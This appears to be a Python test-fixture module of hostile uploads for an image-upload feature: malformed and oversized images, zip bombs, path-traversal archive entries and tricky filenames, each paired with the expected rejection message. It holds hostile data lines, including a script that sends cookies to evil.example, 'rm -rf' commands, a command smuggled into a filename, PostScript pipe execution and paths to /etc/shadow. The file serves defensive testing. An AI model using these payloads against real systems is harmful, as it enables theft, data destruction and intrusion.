"""Hostile files for the place where visitors drop own pictures; each under a name that says what
is wrong with it, with words of the sentence that is due."""

from __future__ import annotations

import pickle
import stat
import struct
import tarfile
import zlib
from collections.abc import Callable
from io import BytesIO

from PIL import Image

from tests.archives.zipping import one, raw_zip, zipped
from tests.data.files import encoded, plain

Content = Callable[[], bytes]

GOOD = encoded(plain())
MIB = 1 << 20


def called(data: bytes, name: bytes = b"evil.png", **told: object) -> dict:
    return one(name, data, **told)


def beside(*entries: dict, **told: object) -> bytes:
    """A zip with those entries and two good pictures."""
    good = [one(b"good-1.png", GOOD), one(b"good-2.png", GOOD)]
    return raw_zip([*good, *entries], **told)


# -- pictures --------------------------------------------------------------------------------------


def chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png(width: int, height: int, *more: bytes, pixels: bytes = b"", depth: int = 8, kind: int = 2):
    head = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, depth, kind, 0, 0, 0))
    idat = chunk(b"IDAT", zlib.compress(pixels, 1))
    return b"\x89PNG\r\n\x1a\n" + head + b"".join(more) + idat + chunk(b"IEND", b"")


def tiff(entries: list[tuple[int, int, int, int]], following: int = 0) -> bytes:
    """One directory at byte 8: tag, type, count, value."""
    packed = b"".join(struct.pack("<HHII", *entry) for entry in entries)
    return b"II*\0" + struct.pack("<IH", 8, len(entries)) + packed + struct.pack("<I", following)


def jpeg(width: int, height: int) -> bytes:
    whole = bytearray(encoded(plain(), "JPEG"))
    at = whole.index(b"\xff\xc0") + 5
    whole[at : at + 4] = struct.pack(">HH", height, width)
    return bytes(whole)


def bmp(width: int, height: int) -> bytes:
    whole = bytearray(encoded(plain(), "BMP"))
    whole[18:26] = struct.pack("<ii", width, height)
    return bytes(whole)


LAUGHS = b'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;">]>'
PAYLOAD = b"<script>fetch('//evil.example?'+document.cookie)</script>"

PICTURES: dict[str, tuple[Content, str]] = {
    "an empty file": (lambda: b"", "empty"),
    "words": (lambda: b"hello there", "no picture"),
    "a web page with a script": (lambda: b"<html>" + PAYLOAD, "a web page, no picture"),
    "an SVG": (lambda: b"<svg onload=alert(1)>", "an SVG, no picture"),
    "an XML of entities": (lambda: LAUGHS + b"<svg>&b;</svg>", "an XML, no picture"),
    "a pickle": (lambda: pickle.dumps({"x": 1}), "a pickle, no picture"),
    "a zip": (lambda: zipped([("a.png", GOOD)]), "a zip, no picture"),
    "a program": (lambda: b"\x7fELF" + bytes(99), "a program, no picture"),
    "a shell script": (lambda: b"#!/bin/sh\nrm -rf /\n", "a script, no picture"),
    "PostScript that starts programs": (
        lambda: b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n(%pipe%touch x)(w)file\n",
        "a PostScript, no picture",
    ),
    "a PDF": (lambda: b"%PDF-1.7\n" + bytes(99), "a PDF, no picture"),
    "a NumPy array of objects": (lambda: b"\x93NUMPY\1\0" + bytes(99), "a NumPy array, no picture"),
    "a PNG cut off": (lambda: GOOD[: len(GOOD) // 2], "a damaged PNG"),
    "a PNG with a wrong check sum": (lambda: GOOD[:30] + b"xxxx" + GOOD[34:], "damaged PNG"),
    "a PNG of no size": (lambda: png(0, 0), "damaged PNG"),
    "a PNG of 60,000 px": (lambda: png(60_000, 60_000), "too many"),
    "a PNG of two thousand million px": (lambda: png(2**31 - 1, 2**31 - 1), "too many"),
    "a PNG of 9,000 px": (lambda: png(9_000, 9_000), "too many"),
    "a PNG of a depth that is none": (lambda: png(9, 9, depth=77), "damaged PNG"),
    "a PNG with a text of 50 MB": (
        lambda: png(9, 9, chunk(b"zTXt", b"a\0\0" + zlib.compress(bytes(50 * MIB), 9))),
        "damaged PNG",
    ),
    "a PNG with a colour profile of 50 MB": (
        lambda: png(9, 9, chunk(b"iCCP", b"a\0\0" + zlib.compress(bytes(50 * MIB), 9))),
        "damaged PNG",
    ),
    "a PNG with half its rows": (lambda: png(9, 9, pixels=bytes(100)), "damaged PNG"),
    "a PNG with a chunk as long as can be": (
        lambda: GOOD[:33] + struct.pack(">I", 2**31 - 1) + b"tEXtx",
        "damaged PNG",
    ),
    "a JPEG of 65,000 px": (lambda: jpeg(65_000, 65_000), "too many"),
    "a JPEG without a scan": (lambda: encoded(plain(), "JPEG")[:200], "damaged JPEG"),
    "a JPEG of markers": (lambda: b"\xff\xd8" + b"\xff\xff" * 50_000, "damaged JPEG"),
    "a GIF of 65,535 px": (
        lambda: b"GIF89a" + struct.pack("<HH", 65535, 65535) + b"\0\0\0,\0\0\0\0\1\0\1\0\0\2\0;",
        "too many",
    ),
    "a GIF without pictures": (lambda: b"GIF89a\1\0\1\0\0\0\0;", "damaged GIF"),
    "a BMP of two thousand million px": (lambda: bmp(2**31 - 1, 2**31 - 1), "too many"),
    "a BMP of a negative width": (lambda: bmp(-5, 5), "too many pixels"),
    "a TIFF that leads back to itself": (lambda: tiff([], 8), "damaged TIFF"),
    "a TIFF of four thousand million strips": (
        lambda: tiff([(256, 3, 1, 9), (257, 3, 1, 9), (273, 4, 2**32 - 1, 8)]),
        "a TIFF of more than 100,000 strips",
    ),
    "a TIFF of 60,000 px": (
        lambda: tiff(
            [
                (256, 3, 1, 60_000),
                (257, 3, 1, 60_000),
                (258, 3, 1, 8),
                (262, 3, 1, 1),
                (273, 4, 1, 8),
                (279, 4, 1, 9),
            ]
        ),
        "too many",
    ),
    "a PPM of 999,999 px": (lambda: b"P6 999999 999999 255\n", "too many"),
    "a PPM of endless digits": (lambda: b"P6 " + b"9" * 200_000, "damaged PPM"),
    "a PPM with a comment that never ends": (lambda: b"P6 #" + b"x" * 20 * MIB, "damaged PPM"),
    "a PPM of ten million letters": (lambda: b"P3 4000 4000 255\n" + b"1 " * 5 * MIB, "letters"),
    "a WebP cut off": (lambda: b"RIFF\xff\xff\xff\x7fWEBPVP8 ", "damaged WEBP"),
    "random bytes": (lambda: bytes(k * 167 % 251 for k in range(9999)), "no picture"),
}
"""Each is listed as broken with these words, and what comes with it is taken."""

HARMLESS: dict[str, Content] = {
    "a PNG with pixels for 50 MB": lambda: png(16, 16, pixels=bytes(50 * MIB)),
    "a PNG of one pixel by 30,000": lambda: encoded(plain("red", (1, 30_000))),
    "a PNG of 30,000 pixels by one": lambda: encoded(plain("red", (30_000, 1))),
    "a PNG that says it has 2,000 million frames": lambda: png(
        2, 2, chunk(b"acTL", struct.pack(">II", 2**31 - 1, 0)), pixels=bytes(14)
    ),
    "a GIF of 2,000 frames": lambda: encoded(
        plain("red", (4, 4)),
        "GIF",
        save_all=True,
        append_images=[plain((k % 250, 0, 0), (4, 4)) for k in range(2_000)],
    ),
    "a JPEG turned by a number that is none": lambda: turned(9_999),
    "a PNG of 25 million pixels": lambda: png(5_000, 5_000, pixels=bytes(5_000 * 15_001)),
    "a PNG of 25 million transparent pixels": lambda: png(
        5_000, 5_000, kind=6, pixels=bytes(5_000 * 20_001)
    ),
    "a PNG with a zip behind it": lambda: GOOD + zipped([("a.png", GOOD)]),
    "a PNG with a script behind it": lambda: GOOD + PAYLOAD,
}
"""Pictures all the same; what else is in them is never looked at."""


def turned(orientation: int) -> bytes:
    exif = Image.Exif()
    exif[0x0112] = orientation
    return encoded(plain(), "JPEG", exif=exif)


# -- entries of a zip ------------------------------------------------------------------------------

ENTRIES: dict[str, tuple[Callable[[], dict], str]] = {
    "a way out": (lambda: called(GOOD, b"../evil.png"), "out of its folder"),
    "a way out from below": (lambda: called(GOOD, b"a/../../evil.png"), "out of its folder"),
    "a way out of Windows": (lambda: called(GOOD, b"..\\evil.png"), "out of its folder"),
    "an absolute path": (lambda: called(GOOD, b"/etc/evil.png"), "absolute path"),
    "a drive": (lambda: called(GOOD, b"C:\\Windows\\evil.png"), "absolute path"),
    "a drive without a slash": (lambda: called(GOOD, b"c:evil.png"), "absolute path"),
    "another machine": (lambda: called(GOOD, b"\\\\server\\evil.png"), "absolute path"),
    "a zero in the name": (lambda: called(GOOD, b"a\0.png"), "control characters"),
    "two lines in the name": (lambda: called(GOOD, b"a\nb.png"), "control characters"),
    "a terminal's colours in the name": (lambda: called(GOOD, b"\x1b[31m.png"), "control"),
    "a name that is turned round": (lambda: called(GOOD, "gnp.\u202eexe.png".encode()), "control"),
    "a name of 2,000 letters": (lambda: called(GOOD, b"x" * 2_000 + b".png"), "too long"),
    "a part of 300 letters": (lambda: called(GOOD, b"x" * 300 + b"/a.png"), "too long"),
    "a link": (lambda: called(b"/etc/passwd", mode=stat.S_IFLNK | 0o777), "a link"),
    "a pipe": (lambda: called(GOOD, mode=stat.S_IFIFO | 0o777), "no ordinary file"),
    "a device": (lambda: called(GOOD, mode=stat.S_IFCHR | 0o777), "no ordinary file"),
    "a password": (lambda: called(GOOD, flags=1), "locked by a password"),
    "a strong password": (lambda: called(GOOD, flags=0x2041), "locked by a password"),
    "a zip within": (lambda: called(zipped([]), b"more.zip"), "not opened"),
    "a tar within": (lambda: called(b"", b"MORE.TAR.GZ"), "not opened"),
    "a method of gigabytes": (lambda: called(GOOD, method=12), "not read here"),
    "a method that is none": (lambda: called(GOOD, method=99), "not read here"),
    "sizes at odds": (lambda: called(GOOD, method=0, size=len(GOOD) + 1), "at odds"),
    "a bomb": (lambda: called(bytes(30 * MIB)), "as bombs do"),
    "a bomb that says it is small": (lambda: called(bytes(50 * MIB), size=9), "larger than the 9"),
    "four gigabytes, it says": (lambda: called(GOOD, size=2**32 - 2), "larger than 67,108,864"),
    "another check sum": (lambda: called(GOOD, crc=7), "damaged"),
    "garbage for what was packed": (lambda: called(GOOD, packed_data=b"garbage"), "damaged"),
    "nothing packed": (lambda: called(GOOD, packed_data=b""), "damaged"),
    "fewer bytes than told": (lambda: called(GOOD, size=len(GOOD) + 9), "damaged"),
    "a name that is there": (lambda: called(GOOD, b"good-1.png"), "second file of this name"),
    "a file below a file": (lambda: called(GOOD, b"good-1.png/a.png"), "the name of its folder"),
}
"""Each is refused with these words, and the good pictures of the same zip are taken."""


# -- whole files -----------------------------------------------------------------------------------


def tarred() -> bytes:
    buffer = BytesIO()
    with tarfile.open(fileobj=buffer, mode="w:gz") as archive:
        archive.addfile(tarfile.TarInfo("../evil"), BytesIO(b""))
    return buffer.getvalue()


def overlapping() -> bytes:
    kernel = one(b"a.png", bytes(1000))
    more = ({**kernel, "name": b"%d.png" % k, "offset": 0} for k in range(50))
    return raw_zip([kernel, *more])


def sixty_four() -> bytes:
    """A zip64 that says it has a million million entries."""
    content = zipped([("a", b"x")])
    at = content.rindex(b"PK\5\6")
    record = struct.pack("<4sQ2H2L4Q", b"PK\6\6", 44, 45, 45, 0, 0, 2**40, 2**40, 2**50, 0)
    return content[:at] + record + struct.pack("<4sLQL", b"PK\6\7", 0, at, 1) + content[at:]


def split() -> bytes:
    content = bytearray(zipped([("a.png", GOOD)]))
    at = content.rindex(b"PK\5\6")
    content[at + 4 : at + 6] = b"\1\0"
    return bytes(content)


def many_lies() -> bytes:
    """Three hundred entries of 64 MB each, says a file of some kilobytes."""
    return raw_zip([one(b"%d.png" % k, GOOD, size=2**26, packed=2**26) for k in range(300)])


FILES: dict[str, tuple[str, Content, str]] = {
    "nothing called a zip": ("a.zip", lambda: b"", "called a zip and is none"),
    "words called a zip": ("a.zip", lambda: b"hello" * 99, "called a zip and is none"),
    "a pickle called a zip": ("a.zip", lambda: pickle.dumps({}), "called a zip and is none"),
    "a tar called a zip": ("a.zip", tarred, "called a zip and is none"),
    "a RAR called a zip": ("a.zip", lambda: b"Rar!\x1a\x07\0" * 9, "called a zip and is none"),
    "a zip's first bytes": ("a.zip", lambda: b"PK\3\4" * 30, "no zip, or its end is missing"),
    "a zip's last bytes": ("a.zip", lambda: b"PK\5\6", "no zip, or its end is missing"),
    "a zip without its end": ("a.zip", lambda: beside()[:-30], "its end is missing"),
    "a zip without its beginning": ("a.zip", lambda: b"PK\3\4" + beside()[90:], "damaged"),
    "one part of a zip": ("a.zip", split, "join them first"),
    "a million million entries": ("a.zip", sixty_four, "1,099,511,627,776 entries"),
    "a directory larger than the file": ("a.zip", lambda: beside(size=2**31), "bytes"),
    "entries over each other": ("a.zip", overlapping, "lie over each other"),
    "gigabytes that are not there": ("a.zip", many_lies, "unpack to"),
    "an entry beyond the end": (
        "a.zip",
        lambda: raw_zip([called(GOOD, offset=2**31)]),
        "cut off, or damaged",
    ),
    "a zip of nothing": ("a.zip", lambda: zipped([]), "holds no pictures"),
    "a zip of no pictures": ("a.zip", lambda: zipped([("a.txt", b"hi")]), "holds no pictures"),
    "a zip of broken pictures": (
        "a.zip",
        lambda: zipped([(f"{k}.png", PAYLOAD) for k in range(9)]),
        "holds no pictures",
    ),
    "a zip of litter": (
        "a.zip",
        lambda: zipped([("__MACOSX/._a.png", GOOD)]),
        "holds no pictures",
    ),
    "a web page called a picture": ("a.png", lambda: PAYLOAD, "holds no pictures"),
    "a bomb alone": ("a.zip", lambda: raw_zip([called(bytes(30 * MIB))]), "as bombs do"),
}
"""Each is refused as a whole, with these words."""

NAMES: dict[str, str] = {
    "a way out": "../../../../etc/cron.d/evil.png",
    "an absolute path": "/etc/evil.png",
    "a drive": "C:\\Windows\\evil.png",
    "a zero": "a\0b.png",
    "a line": "a\nSet-Cookie: x=1.png",
    "a script": "<img src=x onerror=alert(1)>.png",
    "half a character": "\ud800.png",
    "a name turned round": "\u202egnp.exe.png",
    "nothing but dots": "...png",
    "2,000 letters": "x" * 2_000 + ".png",
    "a device of Windows": "CON.png",
    "a command": "; rm -rf ~;.png",
}
"""Names that a browser tells of a good picture: it comes in, and lies where it should."""

PLACES: dict[str, str] = {
    "the system's secrets": "/etc/shadow",
    "the folder above": "../..",
    "a whole disk": "/",
    "home": "~",
    "a device": "/dev/zero",
    "a zero": "a\0b",
    "half a character": "\ud800",
    "a name of 5,000 letters": "x" * 5_000,
    "other people's pictures": "{theirs}",
    "the folder of other people's pictures": "{folder}",
    "other people's pictures by a way round": "{folder}/../{tail}/x/../{file}",
    "classes of other people's pictures": "{theirs}:cats",
    "a run": "{root}/runs/somebody",
    "a network address": "//evil.example/share",
    "a web address": "https://evil.example/a.zip",
    "a set that is none": "mnist/../../etc",
}
"""Names for ``data.name`` that begin no run of a visitor, who learns nothing by it."""
